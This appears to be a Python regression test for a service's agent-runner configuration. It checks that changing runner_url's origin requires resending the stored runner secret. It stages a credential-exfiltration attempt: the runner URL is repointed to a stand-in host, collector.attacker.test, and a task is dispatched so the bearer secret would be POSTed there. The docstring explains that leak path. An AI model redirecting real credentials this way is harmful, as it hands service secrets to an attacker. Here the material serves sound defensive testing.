"""A project's runner secret is write-only (never answered), and a PUT of the agent configuration without
`runner_secret` keeps it (docs/decisions/agents.md). Together with a free runner_url, that lets anyone with
projects:update on the project (an employee who owns or belongs to it) point runner_url at a host of their own
and dispatch a task: the run is POSTed there with `Authorization: Bearer <the stored secret>`, the credential the
agency's real runner accepts from the service and the callback route accepts from the runner.

Now a PUT that changes runner_url's origin (scheme, host, port) while a secret is stored must send runner_secret
again (400 otherwise), as credential stores do when their target changes."""
from __future__ import annotations

import responses

from tests.areas.agents.factories import SECRET, make_agent_task, make_config
from tests.areas.projects.factories import make_project


@responses.activate
def test_a_new_runner_origin_does_not_receive_the_stored_secret(api, db, employee, set_env):
    set_env(RUNNER_MODE="live")
    project = make_project(db, owner_id=employee.id, members=[employee])
    make_config(db, project, runner_url="https://runner.agency.test/runs")  # set up by an executive
    task, _agent = make_agent_task(db, project=project, owner=employee)
    responses.add(responses.POST, "https://collector.attacker.test/runs", status=202, json={})

    moved = api.put(f"/api/projects/{project.id}/agent-config", as_=employee,
                    json={"runner_url": "https://collector.attacker.test/runs", "enabled": True})
    if moved.status == 200:
        assert api.post(f"/api/agent-tasks/{task.id}/dispatch", as_=employee).status == 200
    assert all(SECRET not in (call.request.headers.get("Authorization") or "") for call in responses.calls)
    assert moved.status == 400, moved
    assert "runner_secret" in [detail["field"] for detail in moved.json["details"]]
